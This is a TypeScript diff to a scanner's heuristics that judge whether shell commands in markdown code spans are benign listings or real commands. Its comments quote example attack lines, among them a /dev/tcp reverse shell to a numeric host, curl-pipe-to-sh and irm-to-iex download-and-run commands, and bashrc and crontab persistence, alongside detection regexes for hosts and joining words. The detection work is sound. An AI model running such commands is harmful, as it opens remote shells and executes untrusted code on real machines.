@@ -315,9 +315,8 @@ const LIST_GAP = /^(?:\s|[、，,;；/]|\bor\b|\band\b|或|和|及|以及){0,6}$
  */
 export function elidedListing(line: string, index: number, length: number): boolean {
   if (!line.includes('`')) return false
-  // A sentence cut out of a line may begin inside a span (the line's "curl ... | sh" ended a sentence at
-  // its dots): an odd number of backticks means the text opens inside one.
-  if ((line.match(/`/g)?.length ?? 0) % 2 === 1) return elidedListing('`' + line, index + 1, length)
+  // Only spans with both backticks: a stray backtick would make the rest of the line (or all of it) a
+  // "span" an attacker gets for one character (reviewer v, 01d/01e).
   const spans: { start: number; end: number; text: string }[] = []
   for (const m of line.matchAll(/`([^`\n]{1,400})`/g)) spans.push({ start: m.index!, end: m.index! + m[0].length, text: m[1]! })
   const end = index + length
@@ -329,13 +328,32 @@ export function elidedListing(line: string, index: number, length: number): bool
     if (!next || !LIST_GAP.test(line.slice(spans[last]!.end, next.start))) return false
     last++
   }
-  // No span may name a destination: an ellipsis beside a real URL or host elides nothing.
-  for (let k = first; k <= last; k++) if (NAMES_PLACE.test(spans[k]!.text)) return false
+  // No span on the line may name a destination: an ellipsis beside a real URL or host elides nothing.
+  if (spans.some((s) => NAMES_PLACE.test(s.text))) return false
   if (last > first) return true
-  return /…|\.\.\./.test(spans[first]!.text)
+  return elidesOperand(line, index, end, spans[first]!.end - 1)
+}
+
+/**
+ * The ellipsis stands in for the match's own operand: it lies inside the match or touches its end, and
+ * everything from the match's start up to it is command words and flags (no digits, slashes or dots: no
+ * host, path or address), the word it touches being an empty prefix (`/dev/tcp/…`, `DownloadString(...)`).
+ * `echo "Opening..."; bash -i >& /dev/tcp/758164778/4444` elides nothing of the shell it opens, and
+ * `curl 758164778/x … | sh` still fetches from a host (reviewer v, 01-01c).
+ */
+function elidesOperand(line: string, start: number, end: number, spanEnd: number): boolean {
+  const dots = /…|\.{3,}/g
+  dots.lastIndex = start
+  const at = dots.exec(line)
+  if (!at || at.index >= spanEnd || (at.index > end && !/^[("'=/]{1,2}$/.test(line.slice(end, at.index)))) return false
+  const before = line.slice(start, at.index)
+  const words = before.split(/\s{1,8}/)
+  const touching = /\S$/.test(before) ? words.pop()! : ''
+  if (touching && !/^(?:\/dev\/(?:tcp|udp)\/|[A-Za-z().-]{0,60}\(|["'=])$/.test(touching)) return false
+  return words.every((w) => w === '' || /^[A-Za-z<>&|-]{1,40}$/.test(w) || /^[A-Za-z-]{0,20}\([A-Za-z.-]{0,40}\)?\.?[A-Za-z]{0,40}$/.test(w))
 }
 /** A URL, an IP address, a host with a path, or user@host. */
-const NAMES_PLACE = /:\/\/|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w-]{1,63}\.[a-z]{2,24}\/|@[\w-]{1,63}\.|\b[\w-]{1,63}\.(?:com|net|org|io|dev|xyz|top|ru|cn|sh|cc|me|app|site|online)\b/i
+const NAMES_PLACE = /:\/\/|\b\d{8,10}\b|\b0x[0-9a-f]{8}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w-]{1,63}\.[a-z]{2,24}\/|@[\w-]{1,63}\.|\b[\w-]{1,63}\.(?:com|net|org|io|dev|xyz|top|ru|cn|sh|cc|me|app|site|online)\b/i
 
 /**
  * A line rule that needs two things on one line (`requires`) found them in different `code spans` of a
@@ -345,15 +363,27 @@ const NAMES_PLACE = /:\/\/|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w-]{1,63}\.[a-z]{2,24
  */
 export function listedApart(line: string, index: number, length: number, requires: RegExp): boolean {
   if (!line.includes('`')) return false
-  const text = (line.match(/`/g)?.length ?? 0) % 2 === 1 ? '`' + line : line
-  const at = text === line ? index : index + 1
-  let own = false
-  const kept = text.replace(/`[^`\n]{1,400}`/g, (span, offset: number) => {
-    if (offset <= at && at + length <= offset + span.length) {
-      own = true
-      return span
-    }
-    return ' '
-  })
-  return own && !requires.test(kept)
+  const spans = [...line.matchAll(/`[^`\n]{1,400}`/g)]
+  // Every span is checked for a place: `irm http://IP/x.ps1` … `iex` is a download run, whatever splits it.
+  if (spans.some((s) => NAMES_PLACE.test(s[0]))) return false
+  let own = -1
+  for (let k = 0; k < spans.length; k++) if (spans[k]!.index! <= index && index + length <= spans[k]!.index! + spans[k]![0].length) own = k
+  if (own < 0) return false
+  // Prose that joins the spans into one act ("pipe the result into `iex`", "then `echo … >> ~/.bashrc`",
+  // "add that line to `crontab`") makes them one command, not two listed indicators.
+  for (let k = 0; k + 1 < spans.length; k++) {
+    const gap = line.slice(spans[k]!.index! + spans[k]![0].length, spans[k + 1]!.index!)
+    if (JOINING_PROSE.test(gap)) return false
+  }
+  const kept = line.replace(/`[^`\n]{1,400}`/g, (span, offset: number) => (offset === spans[own]!.index ? span : ' '))
+  return !requires.test(kept)
 }
+
+/** Every code span of the line follows the one before with only list punctuation between (`a`、`b`, `c` or `d`). */
+export function pureList(line: string): boolean {
+  const spans = [...line.matchAll(/`[^`\n]{1,400}`/g)]
+  for (let k = 0; k + 1 < spans.length; k++) if (!LIST_GAP.test(line.slice(spans[k]!.index! + spans[k]![0].length, spans[k + 1]!.index!))) return false
+  return spans.length > 1
+}
+/** Words between two code spans that make them one act: a pipe, a redirect, an append, a sequence. */
+const JOINING_PROSE = /\b(?:pipe[sd]?|piping|into|append(?:s|ed|ing|)|add(?:s|ed|ing|)\b[^`]{0,60}\bto|then|after(?:wards|)|feed|pass(?:es|ed|)\b[^`]{0,30}\bto|run(?:s|)\s{1,3}(?:it|them|that|the result)|source|schedule|register|install(?:s|)\s{1,3}(?:it|that))\b|[|>]|管道|传给|交给|追加|加入|添加到|写入|然后|再|之后/i
